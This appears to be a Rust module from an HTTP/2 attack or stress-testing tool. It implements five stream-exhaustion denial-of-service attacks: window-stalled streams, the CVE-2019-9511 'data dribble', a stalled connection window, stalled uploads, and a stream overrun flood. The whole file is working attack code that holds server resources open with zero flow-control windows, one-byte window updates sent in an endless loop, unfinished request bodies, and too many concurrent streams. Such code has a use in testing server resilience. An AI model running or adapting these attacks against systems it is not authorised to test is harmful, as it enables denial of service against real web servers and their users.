//! Streams that are held open: with a window of nothing, a body that does not come, or more of them than is allowed.

use std::io;
use std::time::Duration;

use futures_util::future::LocalBoxFuture;

use super::{Flood, get, hello, post, stream_id, written};
use crate::attack::{Attack, End, Line, Target};
use crate::frames::{Frame, setting};

/// Window-stalled streams: each asks for something big and lets not a byte of it come.
#[derive(Debug)]
pub struct WindowStalled {
    /// Streams on each connection.
    pub streams: u32,
    /// What is asked for.
    pub path: &'static str,
}

impl Attack for WindowStalled {
    fn name(&self) -> &'static str {
        "window-stalled streams"
    }

    fn run<'a>(
        &'a self,
        line: Line<'a>,
        target: &'a Target,
    ) -> LocalBoxFuture<'a, io::Result<End>> {
        Box::pin(async move {
            let mut line = line.hearing_http2();
            let mut bytes = hello(&[(setting::INITIAL_WINDOW_SIZE, 0)]);
            let asks: Vec<Frame> = (0..self.streams)
                .map(|n| get(n, &target.host, self.path))
                .collect();
            bytes.extend(written(&asks));
            line.send_reading(&bytes).await?;
            line.seen.count(self.streams.into());
            line.read_until_end().await
        })
    }
}

/// Data dribble (CVE-2019-9511): the same, but every stream's window is opened by one byte now and then.
#[derive(Debug)]
pub struct Dribble {
    /// Streams on each connection.
    pub streams: u32,
    /// Between two bytes.
    pub pause: Duration,
}

impl Attack for Dribble {
    fn name(&self) -> &'static str {
        "data dribble"
    }

    fn run<'a>(
        &'a self,
        line: Line<'a>,
        target: &'a Target,
    ) -> LocalBoxFuture<'a, io::Result<End>> {
        Box::pin(async move {
            let mut line = line.hearing_http2();
            let mut bytes = hello(&[(setting::INITIAL_WINDOW_SIZE, 0)]);
            let asks: Vec<Frame> = (0..self.streams)
                .map(|n| get(n, &target.host, "/bytes/100000000"))
                .collect();
            bytes.extend(written(&asks));
            line.send_reading(&bytes).await?;
            let opened: Vec<Frame> = (0..self.streams)
                .map(|n| Frame::window_update(stream_id(n), 1))
                .collect();
            let opened = written(&opened);
            loop {
                line.send_reading(&opened).await?;
                line.seen.count(self.streams.into());
                line.wait(self.pause).await?;
            }
        })
    }
}

/// A response window that is open on the streams and shut on the connection: nobody gets anything.
#[derive(Debug)]
pub struct ConnectionStalled {
    /// Streams on each connection.
    pub streams: u32,
}

impl Attack for ConnectionStalled {
    fn name(&self) -> &'static str {
        "connection window stalled"
    }

    fn run<'a>(
        &'a self,
        line: Line<'a>,
        target: &'a Target,
    ) -> LocalBoxFuture<'a, io::Result<End>> {
        Box::pin(async move {
            let mut line = line.hearing_http2();
            let mut bytes = hello(&[(setting::INITIAL_WINDOW_SIZE, 1 << 30)]);
            let asks: Vec<Frame> = (0..self.streams)
                .map(|n| get(n, &target.host, "/bytes/100000000"))
                .collect();
            bytes.extend(written(&asks));
            line.send_reading(&bytes).await?;
            line.seen.count(self.streams.into());
            line.read_until_end().await
        })
    }
}

/// Stalled uploads: bodies that begin, one on every stream, and do not go on.
#[derive(Debug)]
pub struct StalledUploads {
    /// Streams on each connection.
    pub streams: u32,
}

impl Attack for StalledUploads {
    fn name(&self) -> &'static str {
        "stalled uploads"
    }

    fn run<'a>(
        &'a self,
        line: Line<'a>,
        target: &'a Target,
    ) -> LocalBoxFuture<'a, io::Result<End>> {
        Box::pin(async move {
            let mut line = line.hearing_http2();
            let mut bytes = hello(&[]);
            for n in 0..self.streams {
                let begun = Frame::data(stream_id(n), 0, *b"the beginning");
                bytes.extend(written(&[post(n, &target.host), begun]));
            }
            line.send_reading(&bytes).await?;
            line.seen.count(self.streams.into());
            line.read_until_end().await
        })
    }
}

/// Stream overrun: more streams at once than the server said it takes, and none ever ends.
#[derive(Debug)]
pub struct Overrun;

impl Flood for Overrun {
    fn name(&self) -> &'static str {
        "stream overrun"
    }

    fn wave(&self, n: u32, host: &str) -> Vec<Frame> {
        vec![post(n, host)]
    }
}
